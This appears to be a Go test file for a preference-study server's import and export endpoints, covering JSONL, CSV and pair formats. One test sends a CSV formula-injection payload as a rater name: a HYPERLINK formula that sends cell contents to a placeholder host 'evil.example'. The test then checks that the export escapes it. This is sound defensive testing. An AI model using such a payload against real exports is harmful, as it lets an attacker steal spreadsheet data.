package server

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prefer-bo/prefer"
)

func TestExchange(t *testing.T) {
	h := newTestServer(t, nil)
	h.want(201, "POST", "/v1/studies", coffee, nil)
	h.play("ann", 3)
	_, head, log := h.do("GET", "/v1/studies/coffee/export", "")
	if !strings.HasPrefix(head.Get("Content-Disposition"), "attachment") || strings.Count(string(log), "\n") != 8 {
		t.Errorf("exported %v\n%s", head, log)
	}
	var out imported
	h.want(200, "POST", "/v1/studies/copy/import?format=jsonl", string(log), &out, "Content-Type", "application/jsonl")
	if out.Answers != 3 {
		t.Errorf("imported %+v", out)
	}
	_, _, again := h.do("GET", "/v1/studies/copy/export?format=jsonl", "")
	if strings.Replace(string(again), `"copy"`, `"coffee"`, 1) != string(log) {
		t.Errorf("exported again it is\n%swant\n%s", again, log)
	}
	_, head, table := h.do("GET", "/v1/studies/coffee/export?format=csv", "")
	if !strings.HasPrefix(head.Get("Content-Type"), "text/csv") || strings.Count(string(table), "\n") != 4 {
		t.Errorf("the table is\n%s", table)
	}
	var whole struct {
		Name   string
		Events []prefer.Event
	}
	_, _, text := h.do("GET", "/v1/studies/coffee/export?format=json", "")
	if err := json.Unmarshal(text, &whole); err != nil || whole.Name != "coffee" || len(whole.Events) != 7 {
		t.Errorf("%v: %s", err, text)
	}
	pairs := `{"winner":{"milk":1,"sugar":1},"loser":{"milk":0,"sugar":1}}` + "\n" + `{"winner":{"milk":1,"sugar":2},"loser":{"milk":0,"sugar":2}}` + "\n"
	for range 2 { // the second time it changes nothing
		h.want(200, "POST", "/v1/studies/coffee/import", pairs, &out, "Content-Type", "application/jsonl")
		var study Study
		if h.want(200, "GET", "/v1/studies/coffee", "", &study); out.Answers != 2 || study.Count != 5 {
			t.Errorf("imported %+v, and there are %d answers", out, study.Count)
		}
	}
	for _, c := range []struct{ status, kind, format, body string }{
		{"409", "study_exists", "jsonl", string(log)},
		{"422", "invalid", "jsonl", string(log[:100])},
		{"422", "invalid", "pairs", "nonsense"},
		{"422", "option", "pairs", pairs + `{"winner":{"milk":9,"sugar":1},"loser":{"milk":0,"sugar":1}}`},
	} {
		status := map[string]int{"409": 409, "422": 422}[c.status]
		h.refused(status, c.kind, "body", "POST", "/v1/studies/coffee/import?format="+c.format, c.body, "Content-Type", "text/plain")
	}
	h.refused(422, "invalid", "query.format", "GET", "/v1/studies/coffee/export?format=xml", "")
	h.refused(422, "invalid", "query.format", "POST", "/v1/studies/coffee/import?format=optuna", pairs, "Content-Type", "text/plain")
	var study Study
	if h.want(200, "GET", "/v1/studies/coffee", "", &study); study.Count != 5 {
		t.Errorf("%d answers, want those before the refusals", study.Count)
	}
}

// TestExchangePairs: chosen and rejected, and rankings, come in by what they are called, and go out again; what has no place there is said.
func TestExchangePairs(t *testing.T) {
	h := newTestServer(t, nil)
	h.want(201, "POST", "/v1/studies", `{"name":"prompts","space":{"items":[{"id":"a"},{"id":"b"},{"id":"c"}]}}`, nil)
	var out imported
	h.want(200, "POST", "/v1/studies/prompts/import", `{"chosen_id":"a","rejected_id":"b","prompt":"hi"}`+"\n"+`{"ranking":["a",["b","c"]]}`, &out, "Content-Type", "application/jsonl")
	if out.Answers != 4 || len(out.Notes) != 1 {
		t.Errorf("imported %+v", out)
	}
	status, head, text := h.do("GET", "/v1/studies/prompts/export?format=chosen", "")
	if want := `{"chosen_id":"a","rejected_id":"b","prompt":"hi"}` + "\n"; status != 200 || !strings.HasPrefix(string(text), want) || strings.Count(string(text), "\n") != 3 {
		t.Errorf("%d %s, want it to begin with %s", status, text, want)
	}
	if got := head.Get("Prefer-Left-Out"); got != "answers left out: 1 ties" {
		t.Errorf("left out: %q", got)
	}
	_, head, text = h.do("GET", "/v1/studies/prompts/export?format=battles-csv", "")
	if !strings.HasPrefix(string(text), "model_a,model_b,winner,judge,prompt,meta.ranking\r\na,b,model_a,,hi,\r\n") || head.Get("Prefer-Left-Out") != "" || !strings.Contains(head.Get("Content-Disposition"), "study.battles.csv") {
		t.Errorf("%v\n%s", head, text)
	}
	h.refused(422, "invalid", "body", "POST", "/v1/studies/prompts/import", `{"prompt":"hi","chosen":"a","rejected":"b"}`, "Content-Type", "application/jsonl")
	h.refused(422, "option", "body", "POST", "/v1/studies/prompts/import?texts=true", `{"prompt":"hi","chosen":"a","rejected":"b"}`, "Content-Type", "application/jsonl")
}

// TestExportFormula: a rater's name is never a formula in a spreadsheet.
func TestExportFormula(t *testing.T) {
	h := newTestServer(t, nil)
	h.want(201, "POST", "/v1/studies", coffee, nil)
	const name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	quoted, _ := json.Marshal(name) // a text can always be written
	h.want(200, "POST", "/v1/studies/coffee/tell", `{"winner":{"milk":1,"sugar":1},"loser":{"milk":0,"sugar":1},"session":"@SUM(1+1)","rater":`+string(quoted)+`}`, nil)
	for format, want := range map[string]string{
		"csv":    `coffee,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",'@SUM(1+1),`,
		"people": `coffee,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`,
	} {
		if _, _, table := h.do("GET", "/v1/studies/coffee/export?format="+format, ""); !strings.Contains(string(table), want) {
			t.Errorf("%s: %s, want %s in it", format, table, want)
		}
	}
}

// TestExportResults: the tables over HTTP are those of the study, with catch questions and what was refused.
func TestExportResults(t *testing.T) {
	h := newTestServer(t, func(c *Config) { c.Now = func() time.Time { return time.Now().Add(time.Hour) } })
	h.want(201, "POST", "/v1/studies", `{"name":"tea","params":[{"name":"sugar","low":0,"high":5}],"people":"per_rater","method":"random",
		"checks":{"min_rt_ms":500,"catch_every":2,"catch":[{"better":{"sugar":2},"worse":{"sugar":5}}]}}`, nil)
	for range 3 {
		var q Question
		h.want(200, "POST", "/v1/studies/tea/ask", `{"rater":"ann"}`, &q)
		h.refused(422, "too_quick", "body.rt_ms", "POST", "/v1/studies/tea/tell", `{"question_id":"`+q.ID+`","choice":"first","rt_ms":499}`)
		h.want(200, "POST", "/v1/studies/tea/tell", `{"question_id":"`+q.ID+`","choice":"first"}`, nil)
	}
	var all struct {
		Study     string
		Config    string `json:"config_sha256"`
		Log       string `json:"log_sha256"`
		People    []map[string]any
		Group     []map[string]any
		Agreement []map[string]any
	}
	_, _, text := h.do("GET", "/v1/studies/tea/export?format=results", "")
	if err := json.Unmarshal(text, &all); err != nil {
		t.Fatalf("%v: %s", err, text)
	}
	var study Study
	h.want(200, "GET", "/v1/studies/tea", "", &study)
	if all.Study != "tea" || all.Config != study.Hash || len(all.Log) != 64 || len(all.People) != 1 || len(all.Group) != 1 || len(all.Agreement) != 0 {
		t.Fatalf("%s", text)
	}
	if ann := all.People[0]; ann["rater"] != "ann" || ann["refused"] != 3.0 || ann["catch_of"] != 1.0 || ann["answers"] != 2.0 {
		t.Errorf("%v", ann)
	}
	var best struct{ Mean float64 }
	h.want(200, "GET", "/v1/studies/tea/best?rater=ann", "", &best)
	if all.People[0]["utility"] != best.Mean {
		t.Errorf("utility %v, want %v", all.People[0]["utility"], best.Mean)
	}
	for format, column := range map[string]string{"people": "pick.sugar", "group": "score", "agreement": "rater_a", "csv": "refused"} {
		_, head, table := h.do("GET", "/v1/studies/tea/export?format="+format, "")
		if first, _, _ := strings.Cut(string(table), "\r\n"); !strings.HasPrefix(head.Get("Content-Type"), "text/csv") || !slices.Contains(strings.Split(first, ","), column) {
			t.Errorf("%s: %v\n%s", format, head, table)
		}
	}
}

// TestExportPairsOfParameters: a table of names has no place for settings, which is the request's fault.
func TestExportPairsOfParameters(t *testing.T) {
	h := newTestServer(t, nil)
	h.want(201, "POST", "/v1/studies", coffee, nil)
	for _, format := range []string{"chosen-csv", "battles-csv"} {
		h.refused(422, "invalid", "query.format", "GET", "/v1/studies/coffee/export?format="+format, "")
	}
	for _, format := range []string{"chosen", "battles"} {
		h.want(200, "GET", "/v1/studies/coffee/export?format="+format, "", nil)
	}
}
